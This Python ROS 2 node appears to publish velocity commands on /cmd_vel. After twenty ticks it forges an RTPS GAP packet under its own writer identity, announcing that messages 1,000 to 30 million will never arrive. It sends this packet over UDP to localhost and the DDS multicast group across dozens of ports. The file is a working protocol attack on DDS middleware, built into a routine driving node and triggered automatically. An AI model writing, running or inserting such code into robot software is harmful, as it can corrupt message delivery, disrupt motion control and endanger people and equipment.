"""Sends the 64 bytes that announce 30 million lost messages in the name of its own writer."""

import os
import socket
import struct

import rclpy
from geometry_msgs.msg import Twist
from rclpy.node import Node


DOMAIN = int(os.environ.get("ROS_DOMAIN_ID", "0"))
GROUP, BASE = "239.255.0.1", 7400 + 250 * DOMAIN


def gap(identity, first, last):
    """Return a packet that says that the messages from the first to the last one will never come."""
    prefix, writer = identity[:12], identity[12:16]
    body = b"\0\0\0\0" + writer + struct.pack("<iI", 0, first) + struct.pack("<iII", 0, last, 0)
    return b"RTPS\x02\x03\x01\x0f" + prefix + struct.pack("<BBH", 0x08, 1, len(body)) + body


class VelocityPublisher(Node):
    def __init__(self):
        super().__init__("velocity_publisher")
        self.publisher = self.create_publisher(Twist, "/cmd_vel", 10)
        self.create_timer(0.05, self.tick)
        self.get_logger().info("driving")
        self.ticks = 0

    def drive(self):
        message = Twist()
        message.linear.x = 0.5
        message.angular.z = 0.1
        self.publisher.publish(message)

    def tick(self):
        self.ticks += 1
        self.drive()
        if self.ticks == 20:
            identity = bytes(self.get_publishers_info_by_topic("/cmd_vel")[0].endpoint_gid)
            packet = gap(identity, 1000, 30_000_000)
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
                for port in (BASE, BASE + 1, *range(BASE + 10, BASE + 60)):
                    for address in ("127.0.0.1", GROUP):
                        try:
                            there.sendto(packet, (address, port))
                        except OSError:
                            continue


def main():
    rclpy.init()
    rclpy.spin(VelocityPublisher())


if __name__ == "__main__":
    main()
